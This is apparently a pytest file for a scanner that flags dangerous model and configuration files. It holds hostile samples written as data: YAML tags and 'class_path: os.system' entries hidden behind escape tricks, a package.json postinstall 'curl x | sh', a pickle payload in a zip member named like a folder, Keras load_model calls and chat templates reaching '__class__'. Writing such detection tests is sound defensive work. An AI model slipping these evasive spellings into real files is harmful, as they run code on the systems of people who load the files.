"""Harmful texts and members in spellings that a reader understands and a search may miss."""

from __future__ import annotations

import json
import struct
import zlib

import pytest

from crenel.scan import scan_bytes

from .corpus import proto, system, zipped
from .messages import field
from .test_formats import keras

CLEAN = proto(2) + b"}."


def folder_with_data() -> bytes:
    """A zip whose only member has the name of a folder, and a payload."""
    name, data = b"data.pkl/", system()
    crc, size = zlib.crc32(data), len(data)
    head = b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, crc, size, size, len(name), 0)
    listed = b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, crc, size, size,
                                     len(name), 0, 0, 0, 0, 0, 0) + name  # fmt: skip
    body = head + name + data
    return (
        body + listed + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(listed), len(body), 0)
    )


def function_of(module: str, name: str) -> bytes:
    called = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    layer = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
             "config": {"activation": called}}  # fmt: skip
    return keras({"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}})


def chat(template: str) -> bytes:
    return json.dumps({"chat_template": template}).encode()


COMPILED = field(1, 8) + field(7, field(1, field(2, b"y") + field(4, b"EPContext")
                                       + field(7, b"com.microsoft")))  # fmt: skip
HARMFUL: dict[str, tuple[str, bytes, str]] = {
    "java": ("c.yaml", b"a: !!javax.script.ScriptEngineManager [x]\n", "dangerous"),
    "ruby": ("c.yaml", b"--- !ruby/object:Gem::Installer\ni: x\n", "dangerous"),
    "class-path": ("c.yaml", b"model:\n  class_path: os.system\n", "malicious"),
    "class-path-json": ("c.json", b'{"model": {"class_path": "os.system"}}', "malicious"),
    "long-escape": ("c.yaml", b'net:\n  "_t\\U00000061rget_": os.system\n', "malicious"),
    "joined": ("c.yaml", b'? "_tar\\\n   get_"\n: os.system\n', "malicious"),
    "install": ("package.json", b'{"scripts": {"postinstall": "curl x | sh"}}', "dangerous"),
    "project": ("pyproject.toml", b'[build-system]\nrequires = ["x @ https://e.x/x.whl"]\n',
                "review"),
    "backend": ("pyproject.toml", b'[build-system]\nbackend-path = ["."]\n', "review"),
    "svg": ("x.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "review"),
    "folder": ("m.zip", folder_with_data(), "malicious"),
    "program": ("m.pt", zipped([("m/data.pkl", CLEAN), ("m/data/0", b"\x7fELF" + bytes(99))]),
                "dangerous"),
    "keras-load": ("m.keras", function_of("keras.models", "load_model"), "dangerous"),
    "keras-saving": ("m.keras", function_of("keras.saving", "load_model"), "dangerous"),
    "compiled": ("m.onnx", COMPILED, "review"),
    "built-name": ("tokenizer_config.json",
                   chat("{% set k = bos_token ~ 'class' ~ bos_token %}{{ ''[k] }}"), "review"),
    "replaced-name": ("tokenizer_config.json", chat("{{ ''['--class--'.replace('-', '_')] }}"),
                      "review"),
    "other-template": ("tokenizer_config.json",
                       b'{"default_chat_template": "{{ x.__class__ }}"}', "dangerous"),
}  # fmt: skip


@pytest.mark.parametrize("key", sorted(HARMFUL))
def test_no_spelling_is_clean(key):
    name, data, verdict = HARMFUL[key]
    assert scan_bytes(data, name).verdict == verdict


HARMLESS: dict[str, tuple[str, bytes]] = {
    "yaml": ("c.yaml", b"a: !!timestamp 2001-12-14\nb: !!set {x}\nc: !!binary aGk=\n"),
    "class-path": ("c.yaml", b"m:\n  class_path: torch.optim.Adam\nj:\n  class_path: /lib\n"),
    "escape": ("c.yaml", b'a: "\\U0001F600 and \\\n  more"\n'),
    "package": ("package.json", b'{"name": "x", "scripts": {"test": "jest", "build": "tsc"}}'),
    "project": ("pyproject.toml", b'[project]\nname = "x"\nauthors = [{email = "a@b.org"}]\n'
                b'[build-system]\nrequires = ["hatchling"]\nurls = "https://x.org"\n'),
    "svg": ("x.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><g only="1" one="2"/></svg>'),
    "activation": ("m.keras", function_of("keras.activations", "relu")),
    "template": ("tokenizer_config.json", chat("{% set role = messages[0]['role'] ~ ': ' %}"
                 "{% set i = loop_index %}{{ messages[i]['content'].replace('a', 'b') ~ role }}")),
    "folder": ("m.zip", zipped([("a/", b""), ("a/x.json", b"{}")])),
    "other-template": ("c.json", b'{"prompt_template": "{{ question }}: {name}"}'),
}  # fmt: skip


@pytest.mark.parametrize("key", sorted(HARMLESS))
def test_what_looks_alike_is_clean(key):
    name, data = HARMLESS[key]
    assert scan_bytes(data, name).reasons == []
